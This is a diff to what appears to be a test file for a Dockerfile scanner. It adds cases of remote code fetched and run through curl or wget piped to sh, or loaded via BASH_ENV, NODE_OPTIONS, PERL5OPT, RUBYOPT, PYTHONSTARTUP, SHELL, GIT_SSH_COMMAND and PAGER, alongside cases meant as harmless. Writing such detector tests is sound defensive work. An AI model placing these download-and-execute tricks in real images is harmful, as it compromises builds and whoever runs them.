@@ -65,6 +65,18 @@ const others: Readonly<Record<string, string>> = {
   'systemd-run': `RUN systemd-run -u x sh -c 'curl ${url} | sh'`,
   'two instructions': `RUN curl -o /t/x ${url}\nRUN find /t -name x -exec bash {} +`,
   'a file of a stage': `RUN curl -o /t/x ${url}\nFROM debian:13\nCOPY --from=0 /t/x /y\nRUN BASH_ENV=/y bash -c true`,
+  'a file for shells, by a variable of the image': `RUN curl -o /t/x ${url}\nENV BASH_ENV=/t/x`,
+  'a file for shells, as POSIX has it': `ADD ${url} /t/x\nENV ENV=/t/x`,
+  'a module for Node.js': `RUN wget -O /t/x.js ${url}\nENV NODE_OPTIONS="--max-old-space-size=512 --require /t/x.js"`,
+  'a module for Perl': `RUN curl -o /t/x.pm ${url}\nENV PERL5OPT=-M/t/x.pm`,
+  'a library for Ruby': `RUN curl -o /t/x.rb ${url}\nENV RUBYOPT="-W0 -r/t/x.rb"`,
+  'a file for Python': `ADD ${url} /t/x.py\nENV PYTHONSTARTUP=/t/x.py`,
+  'a shell that is loaded': `RUN curl -o /t/x ${url} && chmod +x /t/x\nSHELL ["/t/x", "-c"]\nRUN true`,
+  'a shell with a program of its own': `SHELL ["/bin/sh", "-c", "curl ${url} | sh; $0"]\nRUN true`,
+  'a variable that each shell evaluates': `ENV BASH_ENV="$(curl ${url} | sh)"`,
+  'a variable that git runs': `ENV GIT_SSH_COMMAND="sh -c 'curl ${url} | sh'"`,
+  'a pager': `ENV A=b PAGER="curl ${url} | bash" C=d`,
+  'a variable that is evaluated': `ENV GET="curl ${url} | sh"\nRUN eval "$GET"`,
   'a file that ADD loads': `ADD ${url} /t/x\nRUN make -f /t/x`,
 };
 
@@ -127,6 +139,10 @@ const harmless: Readonly<Record<string, string>> = {
   'an alias of a program': `RUN echo "alias ll='ls -l'" >> ~/.bashrc`,
   'a daemon of a package': `RUN curl -o /t/x ${url} && start-stop-daemon --start --exec /usr/sbin/nginx`,
   'a command on another machine': `RUN ssh u@host 'curl ${url} | sha256sum'; scp x u@host:y`,
+  'a file of one’s own for shells': `RUN curl -o /t/x ${url}\nCOPY x /y\nENV BASH_ENV=/y NODE_OPTIONS=--max-old-space-size=512`,
+  'a file for shells that is checked': `RUN curl -o /t/x ${url} && echo "abc  /t/x" | sha256sum -c\nENV BASH_ENV=/t/x`,
+  'an agent, which is a program': `ADD ${url}.jar /t/x.jar\nENV JAVA_TOOL_OPTIONS=-javaagent:/t/x.jar`,
+  'a variable that loads and runs nothing': `ENV CHECK="curl -f ${url}" SHELL=/bin/bash\nSHELL ["/bin/bash", "-o", "pipefail", "-c"]`,
   'a variable of that name for another program': `RUN curl -o /t/x ${url} && ENV=/t/x node app.js`,
 };
 
